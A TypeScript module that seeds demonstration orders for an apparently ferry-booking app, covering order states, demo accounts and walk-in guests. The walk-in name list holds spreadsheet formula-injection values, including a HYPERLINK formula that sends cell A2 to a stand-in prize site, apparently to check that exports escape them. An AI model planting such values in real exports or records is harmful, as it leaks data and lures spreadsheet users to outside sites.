import type { Session } from '@gangway/shared/contract/base/vocabulary.ts';
import { daysBetween } from '@gangway/shared/domain/time/local-date.ts';
import type { OrderBatch } from '../ground/rows.ts';
import { type Buyer, buyerOf, customerNamed } from '../people/buyers.ts';
import { familyOfThree } from '../people/party.ts';
import type { OpenSailing } from '../sailings/open-sailings.ts';
import { CHARTER_PLACES } from '../sailings/sailings.ts';
import { createOrder } from './create-order.ts';
import type { OrderChoices, OrderContext } from './draft.ts';
import { chooseCreation } from './order-outcome.ts';

const MINUTE_MS = 60_000;

interface PlannedOrder extends Omit<OrderChoices, 'buyer'> {
  username: string | null;
  daysAhead: number;
  session: Session;
  /** For `held` ones. */
  minutesAgo?: number;
}

const family = { username: 'family', pattern: familyOfThree } as const;
const walkIn = { username: null, session: 'daytime', outcome: 'kept' } as const;

/**
 * Orders in every state for the accounts of the demonstration, a few unpaid ones, and names that spreadsheets may
 * misread.
 */
const planned: readonly PlannedOrder[] = [
  { ...family, daysAhead: 8, session: 'nighttime', outcome: 'kept', withCabin: true },
  { ...family, daysAhead: -19, session: 'daytime', outcome: 'kept' },
  { ...family, daysAhead: 75, session: 'nighttime', outcome: 'canceled', withCabin: true },
  { ...family, daysAhead: 41, session: 'daytime', outcome: 'partly' },
  { ...family, daysAhead: 16, session: 'daytime', outcome: 'expired' },
  { ...family, daysAhead: 23, session: 'nighttime', outcome: 'held', withCabin: true, minutesAgo: 2 },
  { username: 'jisoo', daysAhead: 13, session: 'nighttime', outcome: 'kept', withCabin: true },
  { username: 'jisoo', daysAhead: -33, session: 'daytime', outcome: 'kept' },
  { username: 'meilin', daysAhead: 6, session: 'daytime', outcome: 'held', minutesAgo: 4 },
  { username: null, daysAhead: 3, session: 'nighttime', outcome: 'held', minutesAgo: 1 },
  { username: null, daysAhead: 11, session: 'daytime', outcome: 'held', minutesAgo: 6 },
  { ...walkIn, daysAhead: -5, name: '=HYPERLINK("https://prizes.example/?"&A2,"Claim your prize")' },
  { ...walkIn, daysAhead: -9, name: '+60123456789' },
  { ...walkIn, daysAhead: 18, name: '@SUM(A1:A9)' },
  { ...walkIn, daysAhead: 27, name: '-2+3' },
  { ...walkIn, daysAhead: 5, name: '欧阳慧敏' },
  { ...walkIn, daysAhead: 12, name: '남궁민서' },
];

/** Creates the planned orders, and fills the chartered sailings. */
export function createDemonstrationOrders(
  context: OrderContext,
  batch: OrderBatch,
  sailings: readonly OpenSailing[],
  now: Date,
): void {
  for (const { username, daysAhead, session, minutesAgo = 0, ...choices } of planned) {
    const sailing = sailingNear(context, sailings, daysAhead, session);
    const createdAt =
      choices.outcome === 'held'
        ? new Date(now.getTime() - minutesAgo * MINUTE_MS)
        : chooseCreation(context.random, sailing, context.today);
    createOrder(context, batch, { sailing, createdAt }, { ...choices, buyer: buyerFor(context, username) });
  }
  for (const sailing of sailings) {
    if (sailing.capacity !== CHARTER_PLACES) continue;
    while (sailing.placesLeft > 0) {
      const createdAt = chooseCreation(context.random, sailing, context.today);
      createOrder(context, batch, { sailing, createdAt }, { outcome: 'kept', withCabin: false });
    }
  }
}

function buyerFor({ people, settings }: OrderContext, username: string | null): Buyer {
  const { houseReferralCode } = settings;
  if (username) return buyerOf(customerNamed(people, username), houseReferralCode);
  return {
    channel: 'storefront',
    actor: 'guest',
    customer: null,
    lead: undefined,
    referralCode: houseReferralCode,
  };
}

/** The regular sailing of a session nearest to a number of days from today. */
function sailingNear(
  { today }: OrderContext,
  sailings: readonly OpenSailing[],
  daysAhead: number,
  session: Session,
): OpenSailing {
  const distance = ({ date }: OpenSailing) => Math.abs(daysBetween(today, date) - daysAhead);
  const [nearest] = sailings
    .filter(sailing => sailing.session === session && !sailing.peak && !sailing.nonRefundable)
    .filter(
      sailing => sailing.status === (daysAhead < 0 ? 'departed' : 'scheduled') && sailing.placesLeft > 100,
    )
    .sort((a, b) => distance(a) - distance(b));
  if (!nearest) throw new RangeError(`no ${session} sailing about ${daysAhead} days from today`);
  return nearest;
}
